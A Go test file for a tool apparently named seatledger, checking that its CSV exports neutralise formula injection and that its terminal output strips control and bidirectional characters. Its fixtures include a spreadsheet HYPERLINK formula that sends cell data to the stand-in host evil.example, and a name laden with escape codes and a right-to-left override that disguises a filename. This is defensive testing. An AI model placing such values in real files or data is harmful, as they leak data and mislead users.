package main

import (
	"encoding/csv"
	"strings"
	"testing"

	"github.com/seatledger/seatledger/internal/sandbox"
)

// Names from outside that a spreadsheet would run and a terminal would obey.
const (
	formulaName  = `=HYPERLINK("http://evil.example/?"&A1,"open")`
	terminalName = "\x1b[2J\x1b[3J\x1b]0;pwned\x07Evil \u202etxt.exe\u2069 Ltd\u009b2J"
)

// hostileSandbox serves a world whose first two customers carry those names, in the
// registry and in the tenants, and points the configuration at it.
func hostileSandbox(t *testing.T) sandboxFiles {
	t.Helper()
	world, err := sandbox.Generate(sandbox.Options{Seed: 3, Tenants: 3})
	if err != nil {
		t.Fatal(err)
	}
	world.Tenants[0].Name, world.Tenants[1].Name = formulaName, terminalName
	_, files := serveWorld(t, world, sandbox.ServerOptions{})
	t.Setenv("SEATLEDGER_PARTNER_TENANT_ID", sandbox.PartnerTenantID)
	return files
}

// Every CSV export neutralises cells a spreadsheet would read as formulas, and keeps
// numbers numbers; text output drops what a terminal would obey.
func TestExportsSafeToOpen(t *testing.T) {
	files := hostileSandbox(t)
	eachDatabase(t, func(t *testing.T, db string) {
		mustRun(t, "--db", db, "migrate", "up")
		mustRun(t, "--db", db, "customers", "import", files.Customers)
		mustRun(t, "--db", db, "contracts", "import", files.Contracts)
		code, syncOut, progress := seatledger(t, "--db", db, "sync", "--all")
		if code != 0 {
			t.Fatalf("sync: exit %d\n%s%s", code, syncOut, progress)
		}
		adviseOut := mustRun(t, "--db", db, "advise")

		for _, export := range []struct {
			name     string
			args     []string
			customer int
		}{
			{"findings list", []string{"findings", "list", "--all"}, 1},
			{"reconcile", []string{"reconcile"}, 0},
		} {
			t.Run(export.name, func(t *testing.T) {
				rows, err := csv.NewReader(strings.NewReader(mustRun(t, append([]string{"--db", db, "-o", "csv"}, export.args...)...))).ReadAll()
				if err != nil {
					t.Fatal(err)
				}
				neutralised := 0
				for _, row := range rows[1:] {
					for i, cell := range row {
						if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) && !plainNumber(cell) {
							t.Errorf("%s column %s: %q would be a formula", export.name, rows[0][i], cell)
						}
					}
					if row[export.customer] == "'"+formulaName {
						neutralised++
					}
				}
				if neutralised == 0 {
					t.Errorf("%s: no row of the customer named %q, with its name kept after the apostrophe", export.name, formulaName)
				}
			})
		}

		for what, out := range map[string]string{
			"sync":           syncOut + progress,
			"advise":         adviseOut,
			"customers list": mustRun(t, "--db", db, "customers", "list"),
			"findings list":  mustRun(t, "--db", db, "findings", "list", "--all"),
			"findings wide":  mustRun(t, "--db", db, "findings", "list", "--all", "--wide"),
			"reconcile":      mustRun(t, "--db", db, "reconcile", "--all"),
		} {
			if i := strings.IndexFunc(out, func(r rune) bool {
				return r < 0x20 && r != '\n' || r >= 0x7f && r <= 0x9f || r >= 0x202a && r <= 0x202e || r >= 0x2066 && r <= 0x2069
			}); i >= 0 {
				t.Errorf("%s writes a control character at %d: %q", what, i, out[max(0, i-20):min(len(out), i+20)])
			}
			if !strings.Contains(out, "Evil txt.exe Ltd2J") && what != "sync" {
				t.Errorf("%s does not show the cleaned name:\n%s", what, out)
			}
		}
	})
}

func plainNumber(s string) bool {
	s = strings.TrimLeft(s, "+-")
	whole, frac, _ := strings.Cut(s, ".")
	return whole != "" && strings.Trim(whole, "0123456789") == "" && strings.Trim(frac, "0123456789") == ""
}
